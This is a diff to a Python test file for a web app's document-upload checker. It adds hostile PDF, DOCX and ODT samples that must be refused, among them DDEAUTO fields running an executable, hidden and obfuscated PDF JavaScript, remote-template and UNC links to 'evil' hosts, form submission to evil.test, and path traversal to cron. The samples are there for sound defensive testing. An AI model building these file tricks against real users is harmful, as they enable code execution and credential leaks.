@@ -5,6 +5,7 @@ import subprocess
 import sys
 import time
 import zipfile
+import zlib
 
 import pytest
 from django.conf import settings
@@ -19,7 +20,22 @@ from documents.files.checking import SENTENCES, FileRefused, check
 from documents.files.formats import Format, format_of
 from documents.files.plain import words_of
 from documents.files.refused import Refused, Why
-from tests.documents.files.made import PACKAGE, TYPES, docx, entry, field, odt, pdf, relation, zipped
+from tests.documents.files.made import (
+    OFFICE,
+    PACKAGE,
+    TYPES,
+    W,
+    docx,
+    entry,
+    field,
+    odt,
+    pdf,
+    relation,
+    relations,
+    updated_pdf,
+    written_pdf,
+    zipped,
+)
 
 OLE = bytes.fromhex("d0cf11e0a1b11ae1")
 BOMB = docx(parts={"word/media/1.png": bytes(45_000_000)})
@@ -29,6 +45,10 @@ WITH_MACROS = zipped({"[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-t
 FOR_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
 WORKSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
 CHART = "word/embeddings/Sheet1.xlsx"
+DDE = field("DDEAUTO c:\\a.exe")
+HEADER = f'<w:hdr xmlns:w="{W}">{DDE}</w:hdr>'
+SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+ELSEWHERE = "http://evil.test/a.png"
 
 
 def action(kind: str, **more: str):
@@ -59,6 +79,26 @@ def twice_the_same() -> bytes:
 def hidden_script() -> bytes:
     """Its name written with a code in the place of a letter."""
     return action("/JavaScript", JS="app.alert(1)").replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")
+
+
+def packed(thing: str) -> bytes:
+    """A stream with an object in it, which no table lists."""
+    stream = zlib.compress(f"9 0 {thing}".encode())
+    head = f"<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] /Length {2 * len(stream)} >>"
+    return written_pdf(more=[f"{head}\nstream\n{stream.hex()}\nendstream"])
+
+
+def with_a_decoy() -> bytes:
+    """The list of types names a harmless document first; the package relates to another one, which Word opens."""
+    real = f'<w:document xmlns:w="{W}"><w:body>{DDE}</w:body></w:document>'
+    types = f'<Override PartName="/word/real.xml" ContentType="{TYPES}document.main+xml"/>'
+    top = relations(relation("officeDocument", "word/real.xml", "Internal"))
+    return docx(types=types, parts={"word/real.xml": real, "_rels/.rels": top})
+
+
+def meta(inner: str) -> str:
+    spaces = f'xmlns:office="{OFFICE}office:1.0" xmlns:meta="{OFFICE}meta:1.0"'
+    return f'<office:document-meta {spaces} xmlns:xlink="http://www.w3.org/1999/xlink">{inner}</office:document-meta>'
 
 
 REFUSED: dict[str, tuple[bytes, str, Why]] = {
@@ -119,6 +159,36 @@ REFUSED: dict[str, tuple[bytes, str, Why]] = {
         Why.SCRIPTS,
     ),
     "a PDF that starts a program": (action("/Launch", F="cmd.exe"), "a.pdf", Why.SCRIPTS),
+    "a script that stands second": (
+        written_pdf(f"/OpenAction [3 0 R /Fit] /OpenAction {SCRIPT}"),
+        "a.pdf",
+        Why.SCRIPTS,
+    ),
+    "a script behind a stray bracket": (written_pdf(f"/X ) /OpenAction {SCRIPT}"), "a.pdf", Why.SCRIPTS),
+    "a script behind a null": (written_pdf(f"null /OpenAction {SCRIPT}"), "a.pdf", Why.SCRIPTS),
+    "a hidden script behind a null": (
+        written_pdf("null /OpenAction << /#53%a\n/J#61vaScript /JS (a) >>"),
+        "a.pdf",
+        Why.SCRIPTS,
+    ),
+    "a script whose kind is told elsewhere": (
+        written_pdf("null /OpenAction << /S 4 0 R /JS (a) >>", more=["/JavaScript"]),
+        "a.pdf",
+        Why.SCRIPTS,
+    ),
+    "a script in packed objects": (packed(f"<< null /A {SCRIPT} >>"), "a.pdf", Why.SCRIPTS),
+    "a key that stands twice": (
+        written_pdf("/AA << >> /AA 4 0 R", more=["<< >>"]),
+        "a.pdf",
+        Why.BROKEN,
+    ),
+    "a change that is not ended": (updated_pdf("/OpenAction 3 0 R"), "a.pdf", Why.BROKEN),
+    "a change whose end is none": (updated_pdf("/OpenAction 3 0 R", "a %%EOF\na\n"), "a.pdf", Why.BROKEN),
+    "a change behind a remark": (
+        b"%startxref".join(updated_pdf("/OpenAction 3 0 R", "%%EOF\n").rsplit(b"startxref", 1)),
+        "a.pdf",
+        Why.BROKEN,
+    ),
     "a PDF that sends a form": (action("/SubmitForm", F="https://evil.test/"), "a.pdf", Why.SCRIPTS),
     # other files inside
     "a program in a PDF": (
@@ -130,6 +200,11 @@ REFUSED: dict[str, tuple[bytes, str, Why]] = {
     "ActiveX": (docx(parts={"word/activeX/activeX1.xml": "<a/>"}), "a.docx", Why.OTHER_FILES),
     "a page of HTML that Word takes in": (
         docx(rels=relation("aFChunk", "a.html", "Internal"), parts={"word/a.html": "<b>a</b>"}),
+        "a.docx",
+        Why.OTHER_FILES,
+    ),
+    "a program among the pictures": (
+        docx(rels=relation("package", "media/x.dat", "Internal"), parts={"word/media/x.dat": b"MZ\x90\0"}),
         "a.docx",
         Why.OTHER_FILES,
     ),
@@ -167,6 +242,62 @@ REFUSED: dict[str, tuple[bytes, str, Why]] = {
         "a.odt",
         Why.FROM_OUTSIDE,
     ),
+    "a PDF that goes to another machine": (
+        written_pdf("/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >>"),
+        "a.pdf",
+        Why.FROM_OUTSIDE,
+    ),
+    "a PDF that goes to a file at an address": (
+        written_pdf("/OpenAction << /S /GoToR /F 4 0 R >>", more=["<< /Type /Filespec /UF (https://evil.test/a) >>"]),
+        "a.pdf",
+        Why.FROM_OUTSIDE,
+    ),
+    "a picture of a PDF from outside": (
+        written_pdf(more=["<< /Length 0 /F << /FS /URL /F (a.png) >> >>\nstream\n\nendstream"]),
+        "a.pdf",
+        Why.FROM_OUTSIDE,
+    ),
+    "a field in a header": (
+        docx(rels=relation("header", "header1.xml", "Internal"), parts={"word/header1.xml": HEADER}),
+        "a.docx",
+        Why.FROM_OUTSIDE,
+    ),
+    "a field in a header named otherwise": (
+        docx(rels=relation("header", "HEADER1.dat", "Internal"), parts={"word/header1.DAT": HEADER}),
+        "a.docx",
+        Why.FROM_OUTSIDE,
+    ),
+    "a field behind a decoy": (with_a_decoy(), "a.docx", Why.FROM_OUTSIDE),
+    "a relation in capitals": (
+        docx(parts={"word/_rels/settings.xml.RELS": relations(relation("image", ELSEWHERE))}),
+        "a.docx",
+        Why.FROM_OUTSIDE,
+    ),
+    "a picture on a button of an ODT": (
+        odt(f'<text:p xmlns:form="{OFFICE}form:1.0"><form:button form:image-data="{ELSEWHERE}"/></text:p>'),
+        "a.odt",
+        Why.FROM_OUTSIDE,
+    ),
+    "the data of a form of an ODT": (
+        odt(f'<xforms:instance xmlns:xforms="http://www.w3.org/2002/xforms" src="{ELSEWHERE}"/>'),
+        "a.odt",
+        Why.FROM_OUTSIDE,
+    ),
+    "an ODT that loads another": (
+        odt(parts={"meta.xml": meta(f'<meta:auto-reload xlink:href="{ELSEWHERE}" meta:delay="PT1S"/>')}),
+        "a.odt",
+        Why.FROM_OUTSIDE,
+    ),
+    "a template of an ODT on another machine": (
+        odt(parts={"meta.xml": meta('<meta:template xlink:href="file:////evil/a.ott"/>')}),
+        "a.odt",
+        Why.FROM_OUTSIDE,
+    ),
+    "an address behind a blank": (
+        odt(f'<text:p><draw:image xlink:href=" {ELSEWHERE}"/></text:p>'),
+        "a.odt",
+        Why.FROM_OUTSIDE,
+    ),
     # zips
     "a bomb": (BOMB, "a.docx", Why.UNPACKS_TO_TOO_MUCH),
     "thousands of parts": (docx(parts={str(number): b"" for number in range(2_001)}), "a.docx", Why.MANY_PARTS),
@@ -174,6 +305,7 @@ REFUSED: dict[str, tuple[bytes, str, Why]] = {
     "entities in an ODT": (odt(parts={"content.xml": f"{ENTITY}<a/>"}), "a.odt", Why.HARMFUL),
     "a way out": (docx(parts={"../../etc/cron.d/a": "a"}), "a.docx", Why.HARMFUL),
     "a part that is there twice": (twice_the_same(), "a.docx", Why.BROKEN),
+    "two parts that capitals tell apart": (docx(parts={"word/Document.xml": "<a/>"}), "a.docx", Why.BROKEN),
     "another zip": (zipped({"a.txt": "a"}), "a.docx", Why.UNKNOWN),
     "a spreadsheet": (docx(main=WORKSHEET), "a.docx", Why.OTHER_OFFICE),
     "a template": (docx(main=f"{TYPES}template.main+xml"), "a.docx", Why.OTHER_OFFICE),
@@ -245,6 +377,17 @@ ACCEPTED = {
     "a chart in an ODT": odt(manifest=entry("Object 1/", "application/vnd.oasis.opendocument.chart")),
     "libraries with nothing in them": odt(before="<office:scripts><office:script> </office:script></office:scripts>"),
     "a link in a PDF": pdf(lambda writer: writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://oas.test/"))),
+    "a template of an ODT on the writer's disk": odt(
+        parts={"meta.xml": meta('<meta:template xlink:href="../Templates/a.ott"/>')}
+    ),
+    "a header with the number of the page": docx(
+        rels=relation("header", "header1.xml", "Internal"),
+        parts={"word/header1.xml": HEADER.replace("DDEAUTO", "PAGE")},
+    ),
+    "a PDF written by hand, changed, and ended": updated_pdf("/PageMode /UseOutlines", "%%EOF\n"),
+    "a PDF with another end behind it": written_pdf(behind=b"%%EOF\n"),
+    "a title with the name of an action": written_pdf("/Lang (en/Launch)"),
+    "a PDF that goes to the file beside it": written_pdf("/OpenAction << /S /GoToR /F (annex.pdf) /D [0 /Fit] >>"),
     "a calendar in a PDF": pdf(lambda writer: writer.add_attachment("a.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n")),
 }
 
@@ -262,6 +405,14 @@ def test_the_process_beside_says_what_a_look_here_says():
     with pytest.raises(Refused) as refused:
         look_apart(BOMB, Format.DOCX)
     assert refused.value.why == Why.UNPACKS_TO_TOO_MUCH
+
+
+def test_what_no_reader_foresaw_is_told_as_a_broken_file():
+    """Not as one that is too slow, which it would be told as if its process only ended."""
+    with pytest.raises(Refused) as refused:
+        look_apart(odt(parts={"META-INF/manifest.xml": "<a/>", "content.xml": ""}), Format.TEXT)
+
+    assert refused.value.why == Why.BROKEN
 
 
 def test_a_file_that_takes_too_long_is_refused_in_time():
